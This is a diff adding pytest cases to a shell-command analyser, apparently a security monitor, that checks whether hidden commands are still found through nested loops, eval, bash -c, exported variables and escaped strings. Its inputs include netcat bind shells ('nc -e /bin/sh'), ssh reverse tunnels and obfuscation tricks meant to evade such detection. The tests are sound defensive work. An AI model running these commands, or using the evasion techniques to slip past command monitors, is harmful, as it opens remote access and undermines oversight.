@@ -851,7 +851,7 @@ def test_nested_while_read_loops_stay_within_the_command_budget():
     for depth in range(6):
         loop = f"printf '{lines}' | while read v{depth}; do {loop}; done"
     cmds = reader.read(loop)
-    assert MAX_COMMANDS - 16 <= len(cmds) <= MAX_COMMANDS
+    assert MAX_COMMANDS // 2 - 16 <= len(cmds) <= MAX_COMMANDS // 2 + 16  # (MAX_LOOP_COMMANDS)
 
 
 def test_an_unterminated_heredoc_holds_the_rest_of_the_text():
@@ -909,6 +909,41 @@ def test_for_over_many_words_stays_bounded():
     assert len(cmds) == MAX_FOR_WORDS + 1  # as written, then one pass a word, the rest together
     assert " ".join(cmds[-1].args) == " ".join(f"w{i}" for i in range(MAX_FOR_WORDS - 1, 1000))  # ($x: split again)
     assert names("for i in {1..3}; do echo $i; done").count("echo") == 4
+
+
+def test_a_for_word_past_the_bound_is_still_run():
+    """Repeated words are read once, and the words past the bound a line each, as eval runs them."""
+    padded = " ".join(["'true'"] * 40 + [f"'echo {i}'" for i in range(80)])
+    for text in (f"for c in {padded} 'ssh -R 1:l:22 h'; do eval \"$c\"; done",
+                 f"for c in {padded} 'ssh -R 1:l:22 h'; do bash -c \"$c\"; done"):
+        assert find(text, "ssh").args == ["-R", "1:l:22", "h"]
+
+
+_FOR3 = 'W="0 1 2 3 4 5 6 7 8 9 a b c d e f"; for a in $W; do for b in $W; do for c in $W; do {}; done; done; done'
+_WHILE2 = 'printf "%s\\n" {1..64} | while read a; do printf "%s\\n" {1..64} | while read b; do :; done; done'
+_NC = "nc -lvp 4444 -e /bin/sh"
+
+
+@pytest.mark.parametrize("loops, after", [
+    (_FOR3.format(":"), _NC),
+    (_WHILE2, _NC),
+    (_FOR3.format("[[ 1 ]]"), f"printf '%s\\n' '{_NC}' | while read l; do eval \"$l\"; done"),
+    ("for c in " + " ".join(f"'echo {i}'" for i in range(60)) + "; do $c; done", f"printf '%s\\n' '{_NC}' | while read l; do $l; done"),
+])
+def test_loops_that_multiply_leave_the_rest_read_and_say_so(loops, after):
+    """Readings of loop bodies stop at half the command budget, and at byte budgets of their own
+    (one for `for`, one for `while read`), so what follows is read; the cut is an UNREADABLE command
+    (a loop after it of the same kind, or once half the commands are spent, is read as written)."""
+    from vigiles.analysis.shell import UNREADABLE
+    found = names(f"{loops}; {after}")
+    assert "nc" in found and (UNREADABLE in found) is ("echo 59" not in loops)
+
+
+def test_words_and_values_are_bounded():
+    """`y=$y$y` doubles a value on every pass: it is cut at MAX_WORD, and so is a word."""
+    from vigiles.analysis.shell import MAX_WORD
+    cmds = reader.read("y=ab; for i in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do for j in 1 2; do y=$y$y; done; done; echo \"$y$y\"")
+    assert len(cmds[-1].args[0]) == MAX_WORD
 
 
 def test_while_read_runs_no_record_read_cannot_finish():
@@ -1034,3 +1069,37 @@ def test_scripts_and_deferred_commands_see_their_variables(text):
     """A started script the exported ones, a sourced file and a trap this shell's own (and what a
     sourced file sets stays set)."""
     assert find(text, "ssh", Session()).args == ["-R", "1:l:22", "h"]
+
+
+@pytest.mark.parametrize("text", [
+    "env S=ssh bash -c 'sh -c '\"'\"'$S -R 1:l:22 h'\"'\"''",
+    "f(){ sh -c '$S -R 1:l:22 h'; }; S=ssh f",
+    "S=ssh eval \"sh -c '\\$S -R 1:l:22 h'\"",
+    "f(){ export S=ssh; }; f; sh -c '$S -R 1:l:22 h'",
+    "echo 'ssh -R $1 h' | bash /dev/stdin 1:l:22",
+])
+def test_the_exported_environment_reaches_what_children_start(text):
+    """Inherited variables are exported in the child; a function's or eval's prefix assignments
+    reach what they start; what a function exports stays exported; `bash /dev/stdin ARGS` sets $1."""
+    assert find(text, "ssh").args == ["-R", "1:l:22", "h"]
+
+
+def test_what_a_child_exports_stays_in_the_child():
+    assert "ssh" not in names("S=ssh; bash -c 'export S'; sh -c '$S -R 1:l:22 h'")
+
+
+def test_double_quotes_and_parameter_forms_as_bash_reads_them():
+    assert find('echo "a\\$b" "x\\"y" "p\\\\q" "m\\nn" "t\\`u"', "echo").args == ["a$b", 'x"y', "p\\q", "m\\nn", "t`u"]
+    assert find('eval "\\$(echo nc) -e /bin/sh h 1"', "nc").args[0] == "-e"
+    assert find("a=abcdef; echo ${a::1} ${a:1:2} ${a: -2} \"[${a::}]\" ${#a} ${#PATH}", "echo").args == [
+        "a", "bc", "ef", "[]", "6", "60"]
+    assert find("${PATH::1}usr${PATH::1}bin${PATH::1}nc -e /bin/sh h 1", "nc").path == "/usr/bin/nc"
+
+
+@pytest.mark.parametrize("text", [
+    "perl -e 'system(\"\\x6ec -e /bin/sh h 1\")'",
+    "perl -e 'system(\"\\156c -e /bin/sh h 1\")'",
+    "node -e 'require(\"child_process\").execSync(\"\\u006ec -e /bin/sh h 1\")'",
+])
+def test_character_escapes_in_other_languages_strings(text):
+    assert find(text, "nc").args == ["-e", "/bin/sh", "h", "1"]
